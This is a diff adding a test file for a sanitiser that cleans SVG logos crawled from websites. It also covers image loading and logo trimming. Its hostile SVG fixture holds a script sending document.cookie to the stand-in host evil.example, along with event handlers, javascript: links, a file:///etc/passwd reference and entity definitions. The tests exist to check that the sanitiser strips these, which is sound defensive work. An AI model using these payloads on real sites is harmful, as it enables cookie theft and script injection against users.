@@ -1,0 +1,109 @@
+import sharp from 'sharp';
+import { describe, expect, it } from 'vitest';
+import type { User } from '@adsmith/domain/auth/schemas';
+import type { GuardedFetch } from '../crawl/crawl.types';
+import type { MediaDeps } from '../media/media.service';
+import { createImageLoader } from './image-sources';
+import { prepareLogo } from './render/render-creative';
+import { looksLikeSvg, rasteriseSvgLogo, sanitiseSvg } from './svg-logo';
+
+const HOSTILE = `<?xml version="1.0"?>
+<!DOCTYPE svg [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>
+<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 200 100" onload="alert(1)">
+  <script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
+  <style>@import url('https://evil.example/x.css'); .mark { fill: url(https://evil.example/p.svg#g); } .ink { fill: #c0392b }</style>
+  <defs><linearGradient id="g"><stop offset="0" stop-color="#c0392b"/></linearGradient></defs>
+  <rect class="ink" x="10" y="10" width="180" height="80" fill="url(#g)" onclick="steal()"/>
+  <image href="file:///etc/passwd" width="10" height="10"/>
+  <image xlink:href="https://evil.example/tracker.png" width="10" height="10"/>
+  <use xlink:href="https://evil.example/sprite.svg#logo"/>
+  <use href="#g"/>
+  <foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>
+  <a href="javascript:alert(1)"><circle cx="50" cy="50" r="20"/></a>
+  <feImage href="https://evil.example/f.png"/>
+  <animate attributeName="href" to="javascript:alert(1)"/>
+</svg>`;
+
+describe('sanitiseSvg (SVG logos from a crawled site)', () => {
+  it('leaves no script, handler, foreignObject or external reference in a hostile SVG, and keeps the drawing', () => {
+    const clean = sanitiseSvg(HOSTILE)!;
+    expect(clean).not.toMatch(/<script|onload|onclick|foreignObject|iframe|feImage|animate|javascript:/i);
+    expect(clean).not.toMatch(/evil\.example|file:|@import|ENTITY|DOCTYPE/i);
+    expect(clean).toContain('<rect');
+    expect(clean).toContain('fill="url(#g)"');
+    expect(clean).toContain('<use href="#g"/>');
+    expect(clean).toContain('.ink { fill: #c0392b }');
+  });
+
+  it('refuses what is not one SVG document', () => {
+    expect(sanitiseSvg('<html><body><svg></svg></body></html>')).toBeNull();
+    expect(sanitiseSvg('not markup')).toBeNull();
+    expect(looksLikeSvg(Buffer.from(HOSTILE))).toBe(true);
+    expect(looksLikeSvg(Buffer.from('<html><svg></svg></html>'))).toBe(false);
+  });
+
+  it('draws the sanitised logo crisp: a PNG as wide as the logo box, in the logo’s colour', async () => {
+    const png = (await rasteriseSvgLogo(Buffer.from(HOSTILE)))!;
+    const meta = await sharp(png).metadata();
+    expect(meta).toMatchObject({ format: 'png', width: 1600, height: 800 });
+    const { data } = await sharp(png)
+      .extract({ left: 800, top: 100, width: 1, height: 1 })
+      .raw()
+      .toBuffer({ resolveWithObject: true });
+    expect([...data.subarray(0, 3)]).toEqual([0xc0, 0x39, 0x2b]);
+  });
+});
+
+describe('createImageLoader on site images', () => {
+  const user = { id: 'u1', email: 'a@b.example', isAdmin: false } as unknown as User;
+  const serve =
+    (files: Record<string, Buffer>): GuardedFetch =>
+    async (url) => ({
+      url,
+      finalUrl: url,
+      status: files[url] ? 200 : 404,
+      contentType: 'application/octet-stream',
+      body: files[url] ?? Buffer.alloc(0),
+    });
+
+  it('decodes an AVIF photo for the renderer, takes an SVG only as a logo, and sanitises it first', async () => {
+    const avif = await sharp({ create: { width: 640, height: 480, channels: 3, background: '#7a5230' } })
+      .avif({ quality: 50 })
+      .toBuffer();
+    const load = createImageLoader({
+      media: {} as MediaDeps,
+      user,
+      fetch: serve({
+        'https://a.example/shop.avif': avif,
+        'https://a.example/logo.svg': Buffer.from(HOSTILE),
+      }),
+    });
+    const photo = await load('https://a.example/shop.avif');
+    expect(photo.problem).toBeNull();
+    expect(await sharp(photo.bytes!).metadata()).toMatchObject({ format: 'jpeg', width: 640, height: 480 });
+    expect((await load('https://a.example/logo.svg')).bytes).toBeNull();
+    const logo = await load('https://a.example/logo.svg', { logo: true });
+    expect(logo.problem).toBeNull();
+    expect((await sharp(logo.bytes!).metadata()).format).toBe('png');
+  });
+});
+
+describe('prepareLogo', () => {
+  it('trims the empty margin a logo file pads its mark with, so the mark is drawn at full size', async () => {
+    const mark = await sharp({ create: { width: 200, height: 50, channels: 4, background: '#c0392b' } })
+      .png()
+      .toBuffer();
+    const padded = await sharp({
+      create: { width: 400, height: 400, channels: 4, background: { r: 0, g: 0, b: 0, alpha: 0 } },
+    })
+      .composite([{ input: mark, left: 60, top: 170 }])
+      .png()
+      .toBuffer();
+    const logo = await prepareLogo(padded, 75);
+    expect({ width: logo.width, height: logo.height, aspect: logo.aspect }).toEqual({
+      width: 200,
+      height: 50,
+      aspect: 4,
+    });
+  });
+});
